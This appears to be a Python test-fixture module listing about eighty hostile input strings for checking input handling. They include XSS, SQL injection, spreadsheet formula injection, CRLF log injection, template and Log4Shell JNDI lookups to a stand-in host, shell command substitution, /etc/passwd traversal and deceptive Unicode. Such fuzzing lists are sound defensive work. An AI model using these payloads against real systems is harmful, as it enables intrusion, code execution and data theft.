"""Eighty hostile texts: what scripts, databases, spreadsheets, logs, templates, paths and eyes can be tricked with."""

SCRIPTS = (
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)"),
    *('"><script>alert(1)</script>', "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<b>bold</b>"),
    *("<a href='javascript:alert(1)'>x</a>", "<style>*{display:none}</style>", "</textarea><script>1</script>"),
    *("<math><mtext></mtext></math>", "&lt;script&gt;", "<!--", "<![CDATA[x]]>", "<object data=x>", "\\x3cscript\\x3e"),
)
DATABASES = (
    *("' OR '1'='1", "'; DROP TABLE act; --", "1); DELETE FROM act; --", '" OR ""="', "admin'--", "/* x */", "%' --"),
    *("UNION SELECT hash FROM act", "$as_of", "?1", ":name", "{0}", "NULL", "COPY act TO '/tmp/x'", "ATTACH 'x' AS y"),
)
SHEETS = (
    *("=1+1", "=HYPERLINK(1)", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(A1)"),
    *('=IMPORTXML("http://x","//a")', "|calc", "%0A=1+1"),
)
LOGS = (
    "line\nINFO forged",
    "a\r\nSet-Cookie: x=1",
    "a\rb",
    "\x1b[31mred",
    "a\tb",
    "%0d%0aX: 1",
    "\u2028next",
    "\u2029",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://x/a}",
    "{%import os%}",
    "%s%s%n",
    "$(id)",
    "`id`",
)
PATHS = ("../../etc/passwd", "..\\..\\x", "/etc/passwd", "file:///etc/passwd", "C:\\x", "//host/x", "con", "a\x00.png")
EYES = ("\u202egnp.exe", "\u2066x\u2069", "zero\u200bwidth", "\ufeffbom", "x\u200dy", "\U000e0041", "\u0007", "\ue000")
MARKS = (
    "[x](javascript:alert(1))",
    "![x](http://x/y.png)",
    "**bold**",
    ":red[x]",
    "$\\frac{1}{2}$",
    "# x",
    "| a | b |",
)
PAYLOADS = (*SCRIPTS, *DATABASES, *SHEETS, *LOGS, *TEMPLATES, *PATHS, *EYES, *MARKS)
